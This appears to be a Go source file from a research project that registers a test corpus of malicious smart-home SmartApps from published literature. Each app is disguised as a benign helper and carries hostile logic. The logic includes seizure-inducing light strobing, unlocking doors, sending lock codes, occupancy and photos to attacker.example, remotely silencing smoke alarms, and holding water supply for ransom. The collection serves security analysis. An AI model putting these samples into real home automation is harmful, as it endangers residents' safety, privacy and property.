@@ -1,0 +1,288 @@
+package corpus
+
+// The malicious SmartApps of Table III, collected in the paper from prior
+// literature (Fernandes et al., ContexIoT, SmartAuth, ProvThings). Each is
+// tagged with its attack type and whether the rule extractor can handle it
+// (endpoint and app-update attacks cannot be captured by static analysis
+// of the app alone — the "✗" rows). Table III names 17 apps while the
+// paper reports running on 18; MotionSpy (spyware) is added to match the
+// stated count, as documented in DESIGN.md.
+
+func registerMalicious(name, attack string, handled bool, src string) {
+	register(App{Name: name, Category: Malicious, Source: src, Attack: attack, Handled: handled})
+}
+
+func init() {
+	registerMalicious("CreatingSeizuresUsingStrobedLight", "Malicious Control", true, `
+definition(name: "CreatingSeizuresUsingStrobedLight", namespace: "mal", author: "attacker",
+    description: "A cozy reading light that follows you around the house.",
+    category: "Convenience")
+input "motion1", "capability.motionSensor"
+input "light1", "capability.switch", title: "Reading light"
+def installed() { subscribe(motion1, "motion.active", onMotion) }
+def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
+def onMotion(evt) {
+    light1.on()
+    runIn(1, strobeOff)
+}
+def strobeOff() {
+    light1.off()
+    runIn(1, strobeOn)
+}
+def strobeOn() {
+    light1.on()
+    runIn(1, strobeOff)
+}
+`)
+
+	registerMalicious("shiqiBatteryMonitor", "Abusing Permission", true, `
+definition(name: "shiqiBatteryMonitor", namespace: "mal", author: "attacker",
+    description: "Monitors your sensor batteries and reports their health.",
+    category: "Convenience")
+input "battery1", "capability.battery", title: "Battery to monitor"
+input "lock1", "capability.lock", title: "Door (for battery check)"
+def installed() { subscribe(battery1, "battery", onBattery) }
+def updated() { unsubscribe(); subscribe(battery1, "battery", onBattery) }
+def onBattery(evt) {
+    if (evt.integerValue < 20) {
+        lock1.unlock()
+    }
+}
+`)
+
+	registerMalicious("HelloHome", "Adware", true, `
+definition(name: "HelloHome", namespace: "mal", author: "attacker",
+    description: "Friendly greetings when you come home.",
+    category: "Convenience")
+input "presence1", "capability.presenceSensor"
+input "phone1", "phone"
+def installed() { subscribe(presence1, "presence.present", onArrive) }
+def updated() { unsubscribe(); subscribe(presence1, "presence.present", onArrive) }
+def onArrive(evt) {
+    sendSms(phone1, "Welcome home! -- Brought to you by BUY MEGACORP WIDGETS NOW")
+}
+`)
+
+	registerMalicious("CODetector", "Adware", true, `
+definition(name: "CODetector", namespace: "mal", author: "attacker",
+    description: "Alerts you about carbon monoxide.",
+    category: "Safety & Security")
+input "co1", "capability.carbonMonoxideDetector"
+input "phone1", "phone"
+def installed() { subscribe(co1, "carbonMonoxide.detected", onCO) }
+def updated() { unsubscribe(); subscribe(co1, "carbonMonoxide.detected", onCO) }
+def onCO(evt) {
+    sendSms(phone1, "CO detected! Also: 50% OFF at sketchy-ads.example")
+}
+`)
+
+	registerMalicious("LockManager", "Spyware", true, `
+definition(name: "LockManager", namespace: "mal", author: "attacker",
+    description: "Manage your lock codes in one place.",
+    category: "Safety & Security")
+input "lock1", "capability.lock"
+def installed() { subscribe(lock1, "codeReport", onCode) }
+def updated() { unsubscribe(); subscribe(lock1, "codeReport", onCode) }
+def onCode(evt) {
+    httpPost("http://attacker.example/codes", "code=${evt.value}")
+}
+`)
+
+	registerMalicious("shiqiLightController", "Spyware", true, `
+definition(name: "shiqiLightController", namespace: "mal", author: "attacker",
+    description: "A simple light controller with cloud backup.",
+    category: "Convenience")
+input "light1", "capability.switch"
+input "motion1", "capability.motionSensor"
+def installed() { subscribe(motion1, "motion", onMotion) }
+def updated() { unsubscribe(); subscribe(motion1, "motion", onMotion) }
+def onMotion(evt) {
+    if (evt.value == "active") {
+        light1.on()
+    }
+    httpGet("http://attacker.example/track?occupancy=${evt.value}")
+}
+`)
+
+	registerMalicious("DoorLockPinCodeSnooping", "Spyware", true, `
+definition(name: "DoorLockPinCodeSnooping", namespace: "mal", author: "attacker",
+    description: "Helps you remember who unlocked the door.",
+    category: "Safety & Security")
+input "lock1", "capability.lock"
+input "phone1", "phone"
+def installed() { subscribe(lock1, "lock", onLock) }
+def updated() { unsubscribe(); subscribe(lock1, "lock", onLock) }
+def onLock(evt) {
+    sendSms(phone1, "lock event ${evt.value}")
+    httpPost("http://attacker.example/pins", "event=${evt.value}")
+}
+`)
+
+	registerMalicious("MotionSpy", "Spyware", true, `
+definition(name: "MotionSpy", namespace: "mal", author: "attacker",
+    description: "Occupancy analytics to optimise your heating.",
+    category: "Green Living")
+input "motion1", "capability.motionSensor"
+def installed() { subscribe(motion1, "motion", onMotion) }
+def updated() { unsubscribe(); subscribe(motion1, "motion", onMotion) }
+def onMotion(evt) {
+    httpPost("http://attacker.example/occupancy", "state=${evt.value}")
+}
+`)
+
+	registerMalicious("WaterValve", "Ransomware", true, `
+definition(name: "WaterValve", namespace: "mal", author: "attacker",
+    description: "Smart water valve manager.",
+    category: "Safety & Security")
+input "valve1", "capability.valve"
+input "phone1", "phone"
+def installed() { subscribe(app, appTouch) }
+def updated() { unsubscribe(); subscribe(app, appTouch) }
+def appTouch(evt) {
+    if (state.paid != 1) {
+        valve1.close()
+        sendSms(phone1, "Your water is held hostage. Pay 1 BTC to restore.")
+    } else {
+        valve1.open()
+    }
+}
+`)
+
+	registerMalicious("SmokeDetector", "Remote Control", true, `
+definition(name: "SmokeDetector", namespace: "mal", author: "attacker",
+    description: "Enhanced smoke detector logic with cloud intelligence.",
+    category: "Safety & Security")
+input "smoke1", "capability.smokeDetector"
+input "siren1", "capability.alarm"
+def installed() { subscribe(smoke1, "smoke", onSmoke) }
+def updated() { unsubscribe(); subscribe(smoke1, "smoke", onSmoke) }
+def onSmoke(evt) {
+    httpGet("http://attacker.example/cmd") { resp ->
+        if (resp == "silence") {
+            siren1.off()
+        } else {
+            siren1.both()
+        }
+    }
+}
+`)
+
+	registerMalicious("FireAlarm", "Remote Control", true, `
+definition(name: "FireAlarm", namespace: "mal", author: "attacker",
+    description: "Cloud-connected fire alarm orchestration.",
+    category: "Safety & Security")
+input "smoke1", "capability.smokeDetector"
+input "lights", "capability.switch", multiple: true
+def installed() { subscribe(smoke1, "smoke.detected", onFire) }
+def updated() { unsubscribe(); subscribe(smoke1, "smoke.detected", onFire) }
+def onFire(evt) {
+    httpGet("http://attacker.example/fire") { resp ->
+        if (resp == "proceed") {
+            lights.on()
+        }
+    }
+}
+`)
+
+	registerMalicious("MaliciousCameraIPC", "IPC", true, `
+definition(name: "MaliciousCameraIPC", namespace: "mal", author: "attacker",
+    description: "Smart camera power saver.",
+    category: "Safety & Security")
+input "camera1", "capability.videoCamera"
+input "motion1", "capability.motionSensor"
+def installed() { subscribe(motion1, "motion", onMotion) }
+def updated() { unsubscribe(); subscribe(motion1, "motion", onMotion) }
+def onMotion(evt) {
+    if (evt.value == "inactive") {
+        camera1.off()
+        state.channel = "nobody-home"
+    } else {
+        camera1.on()
+    }
+}
+`)
+
+	registerMalicious("PresenceSensor", "IPC", true, `
+definition(name: "PresenceSensor", namespace: "mal", author: "attacker",
+    description: "Presence summary for your family.",
+    category: "Family")
+input "presence1", "capability.presenceSensor"
+def installed() { subscribe(presence1, "presence", onPresence) }
+def updated() { unsubscribe(); subscribe(presence1, "presence", onPresence) }
+def onPresence(evt) {
+    if (evt.value == "not present") {
+        httpPost("http://attacker.example/ipc", "signal=${state.channel}")
+    }
+}
+`)
+
+	registerMalicious("AutoCamera2", "Shadow Payload", true, `
+definition(name: "AutoCamera2", namespace: "mal", author: "attacker",
+    description: "Automatically snap a photo when the door opens.",
+    category: "Safety & Security")
+input "door1", "capability.contactSensor"
+input "camera1", "capability.imageCapture"
+def installed() { subscribe(door1, "contact.open", onOpen) }
+def updated() { unsubscribe(); subscribe(door1, "contact.open", onOpen) }
+def onOpen(evt) {
+    camera1.take()
+    httpPostJson("https://attacker.example/upload?k=3c5f", "photo")
+}
+`)
+
+	registerMalicious("BackdoorPinCodeInjection", "Endpoint Attack", false, `
+definition(name: "BackdoorPinCodeInjection", namespace: "mal", author: "attacker",
+    description: "Web dashboard for your door locks.",
+    category: "SmartThings Labs")
+input "lock1", "capability.lock"
+mappings {
+    path("/inject") { action: [POST: "injectCode"] }
+}
+def installed() { }
+def updated() { }
+def injectCode() {
+    lock1.setCode(9, "0000")
+}
+`)
+
+	registerMalicious("DisablingVacationMode", "Endpoint Attack", false, `
+definition(name: "DisablingVacationMode", namespace: "mal", author: "attacker",
+    description: "Vacation mode helper with remote access.",
+    category: "SmartThings Labs")
+mappings {
+    path("/disable") { action: [POST: "disableVacation"] }
+}
+def installed() { }
+def updated() { }
+def disableVacation() {
+    setLocationMode("Home")
+}
+`)
+
+	registerMalicious("BonVoyageRepackaging", "App Update", false, `
+definition(name: "BonVoyageRepackaging", namespace: "mal", author: "attacker",
+    description: "Set the home to Away mode when everyone has left.",
+    category: "Mode Magic")
+input "everyone", "capability.presenceSensor", multiple: true
+def installed() { subscribe(everyone, "presence.not present", onLeave) }
+def updated() { unsubscribe(); subscribe(everyone, "presence.not present", onLeave) }
+def onLeave(evt) {
+    setLocationMode("Away")
+}
+`)
+
+	registerMalicious("PowersOutAlert", "App Update", false, `
+definition(name: "PowersOutAlert", namespace: "mal", author: "attacker",
+    description: "Alerts you when the power goes out.",
+    category: "Safety & Security")
+input "power1", "capability.powerMeter"
+input "phone1", "phone"
+def installed() { subscribe(power1, "power", onPower) }
+def updated() { unsubscribe(); subscribe(power1, "power", onPower) }
+def onPower(evt) {
+    if (evt.doubleValue < 5) {
+        sendSms(phone1, "Power appears to be out")
+    }
+}
+`)
+}
